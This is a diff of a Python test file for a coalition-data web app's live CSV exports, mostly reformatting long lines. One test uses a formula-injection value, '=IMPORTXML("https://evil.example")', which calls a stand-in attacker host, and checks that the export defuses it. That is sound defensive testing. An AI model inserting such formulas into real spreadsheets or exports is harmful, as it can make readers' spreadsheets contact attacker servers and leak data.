@@ -117,14 +117,21 @@ def test_a_measure_has_a_row_for_each_reading_and_small_counts_stay_empty(client
         ("2026-03-01", "", "yes"),
         ("2026-06-01", "12.0", "no"),
     ]
-    assert {(each["measure"], each["target_value"], each["better"]) for each in found} == {("Beds open", "20.0", "up")}
+    assert {(each["measure"], each["target_value"], each["better"]) for each in found} == {
+        ("Beds open", "20.0", "up")
+    }
 
 
 def test_activities_hold_no_small_count_of_people(client: EngageClient) -> None:
-    make_activity(title="Training", reached=2, place="Secret street 5", about="Secret notes", county="Secret county")
+    make_activity(
+        title="Training", reached=2, place="Secret street 5", about="Secret notes", county="Secret county"
+    )
     make_activity(title="Fair", reached=40)
     found = rows(client.get(f"{make_link()}/activities.csv"))
-    assert [(each["activity"], each["people_reached"]) for each in found] == [("Training", ""), ("Fair", "40")]
+    assert [(each["activity"], each["people_reached"]) for each in found] == [
+        ("Training", ""),
+        ("Fair", "40"),
+    ]
     assert told(0) == 0
     assert told(None) is told(2) is None
 
@@ -144,7 +151,11 @@ def test_coverage_counts_organizations_by_sector_and_area_and_names_none(client:
     organization = make_organization(name="Secret shelter", sector="nonprofit")
     found = rows(client.get(f"{make_link()}/coverage.csv"))
     whole = next(each for each in found if each["sector"] == "nonprofit" and each["area"] == "all")
-    assert (whole["state"], whole["organizations_active"], whole["organizations_known"]) == ("empty", "0", "1")
+    assert (whole["state"], whole["organizations_active"], whole["organizations_known"]) == (
+        "empty",
+        "0",
+        "1",
+    )
     assert db.session.get_one(Organization, organization.id).name == "Secret shelter"
 
 
@@ -161,7 +172,9 @@ def test_no_table_holds_a_text_but_titles_and_no_person(client: EngageClient) ->
 
 
 @pytest.mark.parametrize("table", LiveTable)
-def test_the_columns_of_each_table_are_those_that_the_docs_explain(client: EngageClient, table: LiveTable) -> None:
+def test_the_columns_of_each_table_are_those_that_the_docs_explain(
+    client: EngageClient, table: LiveTable
+) -> None:
     with open("docs/live-tables.md") as file:
         text = file.read().partition(f"## {table.value}.csv")[2].partition("\n## ")[0]
     explained = [line.split("|")[1].strip(" `") for line in text.splitlines() if line.startswith("| `")]
@@ -173,7 +186,7 @@ def test_the_columns_of_each_table_are_those_that_the_docs_explain(client: Engag
 def test_a_title_that_begins_like_a_formula_is_text(client: EngageClient) -> None:
     make_action(make_plan(), title='=IMPORTXML("https://evil.example")', number=3)
     (row,) = rows(client.get(f"{make_link()}/plan.csv"))
-    assert row["action"] == "'=IMPORTXML(\"https://evil.example\")"
+    assert row["action"] == '\'=IMPORTXML("https://evil.example")'
 
 
 def test_excel_gets_the_mark_of_utf_8_and_google_sheets_does_not(client: EngageClient) -> None:
@@ -230,7 +243,11 @@ def test_nothing_is_let_through_that_was_not_read(client: EngageClient, coordina
     seen = coordinator.page(PAGE).value("seen")
     make_action(plan, title="Came meanwhile", number=2)
     page = coordinator.send(f"{PAGE}/titles", seen=seen)
-    assert (page.status, page.has("changed while you were reading"), page.has("Came meanwhile")) == (409, True, True)
+    assert (page.status, page.has("changed while you were reading"), page.has("Came meanwhile")) == (
+        409,
+        True,
+        True,
+    )
     assert [each["action"] for each in rows(client.get(f"{address}/plan.csv"))] == ["Action 1", "Action 2"]
 
 
@@ -257,7 +274,9 @@ def test_a_link_needs_a_name_and_there_are_at_most_ten(coordinator: EngageClient
     assert (page.status, page.has("Say whose sheet it is for")) == (422, True)
     for _number in range(MOST_LINKS):
         make_link(coordinator.membership)
-    page = coordinator.send(f"{PAGE}/new", name="One more", seen=coordinator.page(f"{PAGE}/new").value("seen"))
+    page = coordinator.send(
+        f"{PAGE}/new", name="One more", seen=coordinator.page(f"{PAGE}/new").value("seen")
+    )
     assert (page.status, page.has("at most 10 links"), page.value("name")) == (422, True, "One more")
 
 
@@ -274,14 +293,22 @@ def test_a_text_that_was_removed_for_good_is_in_no_copy(client: EngageClient) ->
 
 def test_the_mark_of_a_list_tells_every_change() -> None:
     one = Title(TitleKind.ACTION, 1, "1", "A")
-    lists = [[], [one], [one, one], [Title(TitleKind.GOAL, 1, "1", "A")], [Title(TitleKind.ACTION, 1, "1", "B")]]
+    lists = [
+        [],
+        [one],
+        [one, one],
+        [Title(TitleKind.GOAL, 1, "1", "A")],
+        [Title(TitleKind.ACTION, 1, "1", "B")],
+    ]
     assert len({fingerprint(each) for each in lists}) == len(lists)
 
 
 # -- how often
 
 
-def test_a_hundred_fetches_compute_a_table_once(client: EngageClient, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_hundred_fetches_compute_a_table_once(
+    client: EngageClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
     a_plan()
     by = person()
     addresses, computed = [make_link(by), make_link(by)], Counter[LiveTable]()
@@ -339,9 +366,10 @@ def test_a_fetch_of_a_fresh_copy_takes_three_queries_and_writes_nothing(client: 
 
 @pytest.mark.parametrize("table", LiveTable)
 def test_the_queries_of_a_table_do_not_grow_with_its_rows(app: Flask, table: LiveTable) -> None:
-    action, by = a_plan(), person()
+    action, coalition = a_plan(), person().coalition
+    db.session.refresh(coalition)
     with counted_queries() as few:
-        pages.csv_of(by.coalition, table)
+        pages.csv_of(coalition, table)
     plan = _plan()
     for _number in range(3):
         objective = make_objective(make_goal(plan))
@@ -349,8 +377,9 @@ def test_the_queries_of_a_table_do_not_grow_with_its_rows(app: Flask, table: Liv
         make_action(plan, objective=objective)
         make_activity(action_id=action.id)
         make_organization()
+    db.session.refresh(coalition)
     with counted_queries() as many:
-        pages.csv_of(by.coalition, table)
+        pages.csv_of(coalition, table)
     assert len(many) == len(few)
 
 
@@ -375,7 +404,9 @@ def test_a_revoked_link_opens_nothing_from_the_next_request_on(
     assert client.get(f"{other}/plan.csv").status_code == 200
 
 
-def test_with_the_last_link_go_the_titles_and_the_copies(client: EngageClient, coordinator: EngageClient) -> None:
+def test_with_the_last_link_go_the_titles_and_the_copies(
+    client: EngageClient, coordinator: EngageClient
+) -> None:
     a_plan()
     client.get(f"{make_link(coordinator.membership)}/plan.csv")
     (link,) = db.session.scalars(sa.select(LiveLink.id))
@@ -390,7 +421,6 @@ def test_closing_or_deleting_the_coalition_ends_its_links(client: EngageClient) 
     assert client.get(f"{address}/counts.csv").status_code == 200
     db.session.get_one(Coalition, by.coalition_id).closed_at = clock.now()
     assert client.get(f"{address}/counts.csv").status_code == 404
-    db.session.execute(sa.delete(Membership).where(Membership.coalition_id == by.coalition_id))
     db.session.execute(sa.delete(Coalition).where(Coalition.id == by.coalition_id))
     db.session.commit()
     assert client.get(f"{address}/counts.csv").status_code == 404
@@ -413,7 +443,7 @@ def test_the_host_can_close_all_links(app: Flask, client: EngageClient, coordina
 def test_a_link_asks_once_a_year_whether_it_is_kept(client: EngageClient, coordinator: EngageClient) -> None:
     address = make_link(coordinator.membership)
     (link,) = db.session.scalars(sa.select(LiveLink))
-    assert "live tables" not in coordinator.page("/c/riverbend/").text
+    assert not coordinator.page("/c/riverbend/").has("live tables")
     today = clock.today("UTC")
     for ends, status in ((today + timedelta(days=29), 200), (today - timedelta(days=2), 404)):
         link = db.session.get_one(LiveLink, link.id)
@@ -426,10 +456,12 @@ def test_a_link_asks_once_a_year_whether_it_is_kept(client: EngageClient, coordi
     coordinator.send(f"{PAGE}/{link.id}/keep")
     assert client.get(f"{address}/plan.csv").status_code == 200
     assert not coordinator.page(PAGE).has("Keep the link")
-    assert "live tables" not in coordinator.page("/c/riverbend/").text
+    assert not coordinator.page("/c/riverbend/").has("live tables")
 
 
-def test_every_coordinator_sees_each_link_with_its_last_use(client: EngageClient, coordinator: EngageClient) -> None:
+def test_every_coordinator_sees_each_link_with_its_last_use(
+    client: EngageClient, coordinator: EngageClient
+) -> None:
     address = make_link(person(), "The funder’s sheet")
     assert coordinator.page(PAGE).has("Not used yet")
     client.get(f"{address}/plan.csv")
